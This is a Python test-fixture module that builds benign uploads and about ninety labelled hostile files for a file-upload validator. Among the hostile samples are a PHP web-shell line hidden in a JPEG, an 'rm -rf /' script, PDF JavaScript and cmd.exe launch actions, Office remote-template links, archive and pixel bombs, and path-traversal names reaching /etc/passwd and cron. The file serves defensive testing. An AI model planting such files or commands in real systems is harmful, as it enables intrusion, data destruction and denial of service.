"""Documents of every kind that is taken in, and sixty that no system should take, made here byte by byte."""

import io
import struct
import wave
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from typing import Any

from PIL import Image
from PIL.ExifTags import GPS, IFD, Base

OLE_MAGIC = bytes.fromhex("D0CF11E0A1B11AE1")
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
WORD_TYPES = (
    b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument"/></Types>'
)


def pdf(*objects: bytes, tail: bytes = b"") -> bytes:
    """Return a small PDF with these objects beside its catalogue."""
    listed = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
        *objects,
    )
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, each) for n, each in enumerate(listed, 1))
    return b"%PDF-1.7\n" + body + b"trailer << /Root 1 0 R >>\n%%EOF\n" + tail


def hidden(
    *inside: bytes, kept_as: bytes = b"/Filter /FlateDecode", how: Any = zlib.compress
) -> bytes:
    """Return a PDF that keeps these objects within a stream, as new programs write it, where no name can be read."""
    heads, body = b"", b""
    for number, each in enumerate(inside, 5):
        heads += b"%d %d " % (number, len(body))
        body += each + b"\n"
    data = how(heads + body)
    described = b"<< /Type /ObjStm /N %d /First %d /Length %d " % (
        len(inside),
        len(heads),
        len(data),
    )
    return pdf(described + kept_as + b" >>\nstream\r\n" + data + b"\nendstream")


def _in_hex(data: bytes) -> bytes:
    return zlib.compress(data).hex().encode() + b">"


def picture(form: str = "PNG", size: tuple[int, int] = (24, 18), **more: Any) -> bytes:
    """Return a picture."""
    out = io.BytesIO()
    Image.new("RGB", size, (120, 30, 60)).save(out, form, **more)
    return out.getvalue()


def photo_with_position() -> bytes:
    """Return a photo as a telephone makes it: turned, with position, device and a comment."""
    exif = Image.Exif()
    exif[Base.Make], exif[Base.Artist], exif[Base.Orientation] = "Canary phone", "Canary artist", 6
    exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitude] = (54.0, 35.0, 47.25)
    exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitudeRef] = "N"
    return picture("JPEG", (40, 20), exif=exif, comment=b"Canary comment") + b"Canary trailer"


def archive(parts: Iterable[tuple[str, bytes]], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a ZIP archive of these parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as made:
        for name, content in parts:
            made.writestr(name, content)
    return out.getvalue()


def word(*more: tuple[str, bytes], types: bytes = WORD_TYPES) -> bytes:
    """Return a Word document with further parts."""
    return archive([("[Content_Types].xml", types), ("word/document.xml", b"<w/>"), *more])


def office(main: str, *more: tuple[str, bytes]) -> bytes:
    return archive([("[Content_Types].xml", WORD_TYPES), (main, b"<x/>"), *more])


def tied(kind: str, target: str, mode: str = "External", how: str = "utf-8") -> bytes:
    """Return the part of an office document that says what belongs to one of its parts, and where that is."""
    one = f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<?xml version="1.0"?><Relationships xmlns="http://x">{one}</Relationships>'.encode(how)


def open_document(what: str, *more: tuple[str, bytes]) -> bytes:
    kind = f"application/vnd.oasis.opendocument.{what}".encode()
    return archive([("mimetype", kind), ("content.xml", b"<x/>"), *more], zipfile.ZIP_STORED)


def sound() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as made:
        made.setnchannels(1)
        made.setsampwidth(2)
        made.setframerate(8000)
        made.writeframes(bytes(1600))
    return out.getvalue()


def ole(*names: str) -> bytes:
    """Return a container of the old Office formats with streams of these names."""
    free, end, fat = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    header = OLE_MAGIC + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<I", 0)
    header += struct.pack("<I", free) * 108
    table = struct.pack("<II", fat, end) + struct.pack("<I", free) * 126
    sectors = -(-(len(names) + 1) // 4)
    chain = [fat, *range(2, sectors + 1), end]
    table = b"".join(struct.pack("<I", each) for each in chain) + struct.pack("<I", free) * (
        128 - len(chain)
    )
    entries = [_ole_entry("Root Entry", 5, child=1 if names else free)]
    for number, name in enumerate(names, 1):
        right = number + 1 if number < len(names) else free
        entries.append(_ole_entry(name, 2, right=right))
    directory = b"".join(entries).ljust(sectors * 512, b"\0")
    return header.ljust(512, b"\xff") + table + directory


def _ole_entry(name: str, kind: int, *, right: int = 0xFFFFFFFF, child: int = 0xFFFFFFFF) -> bytes:
    written = name.encode("utf-16-le") + b"\0\0"
    entry = written.ljust(64, b"\0") + struct.pack(
        "<HBBIII", len(written), kind, 1, 0xFFFFFFFF, right, child
    )
    return entry + bytes(36) + struct.pack("<III", 0xFFFFFFFE, 0, 0)


def flood(width: int = 60_000, height: int = 60_000) -> bytes:
    """Return a PNG of a few bytes that says it has billions of pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def bomb() -> bytes:
    """Return a Word document that unpacks to forty times the limit of what is small, out of almost nothing."""
    return word(("word/media/x.xml", bytes(80_000_000)))


def very_many_parts() -> bytes:
    """Return a Word document of six thousand parts with nothing in them."""
    return word(*((f"word/{n}.xml", b"") for n in range(6000)))


def overlapping() -> bytes:
    """Return an archive whose table of contents names one part a hundred times."""
    one = word(("word/x.xml", zlib.compress(bytes(range(256)) * 400)))
    at = one.index(b"PK\x01\x02")
    end = one.index(b"PK\x05\x06")
    table, closing = one[at:end], one[end:]
    counted = struct.pack("<HHII", 3 * 100, 3 * 100, len(table) * 100, at)
    return one[:at] + table * 100 + closing[:8] + counted + closing[20:]


_BOX = b"\0\0\0\x20ftyp%s\0\0\0\0mp42isom" + bytes(200)
GOOD: dict[str, bytes] = {
    "letter.pdf": pdf(),
    "new.pdf": hidden(b"<< /Type /Font /JSon (x) >>"),
    "newer.pdf": hidden(b"<< /Type /Font >>", kept_as=b"", how=bytes),
    "photo.jpg": photo_with_position(),
    "PHOTO.JPEG": picture("JPEG"),
    "scan.png": picture(),
    "a.gif": picture("GIF"),
    "a.webp": picture("WEBP"),
    "scan.tif": picture("TIFF"),
    "phone.heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(200),
    "report.docx": word(("word/media/image1.png", picture()), ("docProps/app.xml", b"<x/>")),
    "sheet.xlsx": office("xl/workbook.xml", ("xl/_rels/workbook.xml.rels", tied("externalLinkPath", "old.xlsx"))),
    "link.docx": word(
        ("word/_rels/document.xml.rels", tied("hyperlink", "https://example.org")),
        ("_rels/.rels", tied("officeDocument", "word/document.xml", mode="Internal", how="utf-16")),
        ("word/_rels/empty.xml.rels", b'<Relationships xmlns="http://x"/>'),
    ),
    "talk.pptx": office("ppt/presentation.xml"),
    "text.odt": open_document("text"),
    "sheet.ods": open_document("spreadsheet"),
    "talk.odp": open_document("presentation"),
    "old.doc": ole("WordDocument", "1Table"),
    "old.xls": ole("Workbook"),
    "older.xls": ole("Book"),
    "old.ppt": ole("PowerPoint Document", "Current User"),
    "mail.msg": ole("__properties_version1.0", "__substg1.0_001A001F"),
    "note.txt": "Siobhán rang – at four. a < b, and c > d.".encode(),
    "windows.txt": "Siobhán rang".encode("cp1252"),
    "notepad.txt": "Siobhán rang".encode("utf-16"),
    "list.csv": b"name,number\r\nx,1\r\n",
    "mail.eml": b"Received: from x\r\nFrom: a@example.org\r\nSubject: Re: visit\r\n\r\n<html>yes</html>",
    "voicemail.mp3": b"ID3\x04\0\0\0\0\0\x23" + bytes(300),
    "voicemail.wav": sound(),
    "note.m4a": _BOX % b"M4A ",
    "note.ogg": b"OggS\0\x02" + bytes(22) + b"\x01\x13OpusHead" + bytes(40),
    "note.opus": b"OggS\0\x02" + bytes(22) + b"\x01\x13OpusHead" + bytes(40),
    "note.amr": b"#!AMR\n<x" + bytes(50),
    "doorbell.mp4": _BOX % b"isom",
    "phone.mov": b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + bytes(200),
    "old.3gp": b"\0\0\0\x18ftyp3gp4\0\0\0\0isom3gp4" + bytes(200),
}  # fmt: skip


class Hostile(Mapping[str, tuple[str, bytes]]):
    """By what it is called: its name, its bytes; what is dear to make is made when it is asked for."""

    def __init__(self, listed: Mapping[str, tuple[str, bytes | Callable[[], bytes]]]) -> None:
        self._listed = listed

    def __getitem__(self, what: str) -> tuple[str, bytes]:
        name, data = self._listed[what]
        return name, data if isinstance(data, bytes) else data()

    def __iter__(self) -> Iterator[str]:
        return iter(self._listed)

    def __len__(self) -> int:
        return len(self._listed)


HOSTILE = Hostile({
    "a drawing that runs": ("a.svg", SVG),
    "a drawing as a picture": ("a.png", SVG),
    "a drawing as text": ("a.txt", b'<?xml version="1.0"?>' + SVG),
    "a page": ("a.html", HTML),
    "a page as text": ("a.txt", HTML),
    "a page as a table": ("a.csv", b"  \n" + HTML),
    "a page in UTF-16 as text": ("a.txt", HTML.decode().encode("utf-16")),
    "a page as a PDF": ("a.pdf", HTML),
    "a page within a picture's head": ("a.gif", b"GIF89a" + bytes(6) + HTML),
    "a page in a picture's comment": ("a.jpg", picture("JPEG", comment=HTML)),
    "a page within a sound": ("a.mp3", b"ID3\x04\0\0\0\0\0\x23" + HTML),
    "a page within a PDF's head": ("a.pdf", pdf(HTML)),
    "a saved page": ("a.mht", b"MIME-Version: 1.0\r\n"),
    "a program": ("a.exe", b"MZ" + bytes(300)),
    "a program as a PDF": ("letter.pdf", b"MZ" + bytes(300)),
    "a program as text": ("a.txt", b"MZ\x90\0" + bytes(300)),
    "a program with two ends": ("letter.pdf.exe", pdf()),
    "a program turned round": ("letter\u202efdp.exe", b"MZ" + bytes(300)),
    "a program with a blank": ("letter.pdf                .exe", pdf()),
    "a shell script as text": ("a.txt", b"#!/bin/sh\nrm -rf /\n"),
    "a shell script": ("a.sh", b"#!/bin/sh\n"),
    "a Windows script": ("a.js", b"WScript.Echo(1)"),
    "a shortcut": ("a.lnk", b"L\0\0\0\x01\x14\x02\0"),
    "a PHP page as a picture": ("a.jpg", b"\xff\xd8\xff\xe0<?php system($_GET[0]); ?>"),
    "a Java archive": ("a.jar", archive([("META-INF/MANIFEST.MF", b"x")])),
    "an archive": ("a.zip", archive([("a.txt", b"x")])),
    "an archive as a document": ("a.docx", archive([("a.txt", b"x")])),
    "an archive behind a picture": ("a.png", picture() + archive([("a.txt", b"x")])),
    "an archive behind a photo": ("a.jpg", picture("JPEG") + archive([("a.class", b"x")])),
    "an archive behind a PDF": ("a.pdf", pdf(tail=archive([("a.class", b"x")]))),
    "an archive behind a film": ("a.mp4", _BOX % b"isom" + archive([("a.txt", b"x")])),
    "an archive behind a text": ("a.txt", b"words\n" + archive([("a.txt", b"x")])),
    "a PDF behind a picture's head": ("a.gif", b"GIF89a" + bytes(20) + pdf()),
    "a PDF as a picture": ("a.jpg", pdf()),
    "a picture as a PDF": ("a.pdf", picture()),
    "a PDF with rubbish before it": ("a.pdf", b"\n\nGIF89a" + pdf()),
    "a PDF that runs": ("a.pdf", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "a PDF that runs in disguise": ("a.pdf", pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>")),
    "a PDF that starts a program": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "a PDF with a film player": ("a.pdf", pdf(b"<< /Subtype /RichMedia >>")),
    "a PDF that runs out of sight": ("a.pdf", hidden(b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    "a PDF that runs out of sight in disguise": (
        "a.pdf", hidden(b"<< /S /J#61vaScript >>").replace(b"/ObjStm", b"/Obj#53tm"),
    ),
    "a PDF that runs far out of sight": ("a.pdf", hidden(b"(" + b"x" * 300_000 + b")", b"<</S/Launch>>")),
    "a PDF packed as nobody unpacks it": (
        "a.pdf", hidden(b"<< /S /JavaScript >>", kept_as=b"/Filter [/ASCIIHexDecode /FlateDecode]", how=_in_hex),
    ),
    "a PDF that runs far within": ("a.pdf", pdf(b"(" + b"x" * 262_100 + b")<< /S /JavaScript >>")),
    "a macro": ("a.docm", word(("word/vbaProject.bin", b"x"))),
    "a macro without its end": ("a.docx", word(("word/vbaProject.bin", b"x"))),
    "a macro under another name": ("a.docx", word(("word/vbaData.bin", b"x"))),
    "a macro's type": ("a.docx", word(types=WORD_TYPES + b"ms-word.document.macroEnabled.main")),
    "an ActiveX part": ("a.docx", word(("word/activeX/activeX1.bin", b"x"))),
    "a template fetched from elsewhere": (
        "a.docx", word(("word/_rels/settings.xml.rels", tied("attachedTemplate", "http://x/a.dotm"))),
    ),
    "a template of another part": (
        "a.docx", word(("word/_rels/config.xml.RELS", tied("attachedTemplate", "http://x/a.dotm"))),
    ),
    "a template in other letters": (
        "a.docx",
        word(("word/_rels/settings.xml.rels", tied("attachedTemplate", "http://x/a.dotm", how="utf-16"))),
    ),
    "a template in disguise": (
        "a.docx",
        word(("word/_rels/settings.xml.rels", tied("attached&#84;emplate", "a>b", mode="Ext&#x65;rnal"))),
    ),
    "a template after a quotation mark": (
        "a.docx",
        word((
            "word/_rels/settings.xml.rels",
            tied("attachedTemplate", "x").replace(b'Target="x" ', b"").replace(
                b"/>", b' Target="a&quot; TargetMode=&quot;Internal"/>'
            ),
        )),
    ),
    "a template after much": (
        "a.docx",
        word(("word/_rels/settings.xml.rels", b" " * 600_000 + tied("attachedTemplate", "http://x"))),
    ),
    "a picture that tells who opens it": (
        "a.docx", word(("word/_rels/document.xml.rels", tied("image", "https://example.org/1.png"))),
    ),
    "an object fetched from elsewhere": (
        "a.pptx", office("ppt/presentation.xml", ("ppt/_rels/a.xml.rels", tied("oleObject", "\\\\x\\a"))),
    ),
    "a part in its rels that is none": ("a.docx", word(("word/_rels/settings.xml.rels", b"\0\1\2"))),
    "a macro's type in other letters": (
        "a.docx", word(types=(WORD_TYPES + b"macroEnabled").decode().encode("utf-16")),
    ),
    "a macro's type after much": ("a.docx", word(types=WORD_TYPES + b" " * 600_000 + b"macroEnabled")),
    "two parts of one name": ("a.docx", word(("[content_types].XML", WORD_TYPES))),
    "a program within a document": ("a.docx", word(("word/embeddings/run.exe", b"MZ"))),
    "an archive within a document": ("a.docx", word(("word/embeddings/more.zip", archive([])))),
    "a macro in an OpenDocument": ("a.odt", open_document("text", ("Basic/Standard/x.xml", b"x"))),
    "a script in an OpenDocument": ("a.odt", open_document("text", ("Scripts/python/x.py", b"x"))),
    "an OpenDocument of another kind": ("a.ods", open_document("text")),
    "a macro in an old document": ("a.doc", ole("WordDocument", "Macros")),
    "a macro in an old sheet": ("a.xls", ole("Workbook", "_VBA_PROJECT_CUR")),
    "an installer as an old document": ("a.doc", ole("Property", "Icon")),
    "a broken old document": ("a.doc", OLE_MAGIC + bytes(600)),
    "a document under a password": ("a.docx", ole("EncryptedPackage", "EncryptionInfo")),
    "a bomb": ("a.docx", bomb),
    "a bomb of one part named often": ("a.docx", overlapping),
    "a bomb of very many parts": ("a.docx", very_many_parts),
    "a part that climbs": ("a.docx", word(("../../etc/cron.d/x", b"x"))),
    "a part from the root": ("a.docx", word(("/etc/passwd", b"x"))),
    "a part that climbs on Windows": ("a.docx", word(("..\\..\\x.xml", b"x"))),
    "a cut archive": ("a.docx", word()[:-30]),
    "a flood of pixels": ("a.png", flood()),
    "a narrow flood of pixels": ("a.png", flood(1, 2_000_000_000)),
    "a picture of another kind": ("a.png", picture("JPEG")),
    "a picture's head alone": ("a.png", b"\x89PNG\r\n\x1a\n"),
    "rich text with an object": ("a.rtf", b"{\\rtf1\\object\\objdata 0105}"),
    "rich text as text": ("a.txt", b"{\\rtf1\\object\\objdata 0105}"),
    "bytes as text": ("a.txt", bytes(range(256))),
    "bytes as mail": ("a.eml", b"From: x\r\n\r\n" + bytes(300)),
    "text as mail": ("a.eml", b"Dear all,\r\nhello\r\n"),
    "nothing": ("a.pdf", b""),
    "no end": ("letter", pdf()),
    "only an end": (".pdf", pdf()),
    "a configuration of the server": (".htaccess", b"AddType application/x-httpd-php .pdf"),
    "a traversal": ("../../../etc/passwd", b"root:x:0:0"),
    "a traversal with a NUL": ("letter.exe\x00.pdf", b"MZ" + bytes(300)),
})  # fmt: skip
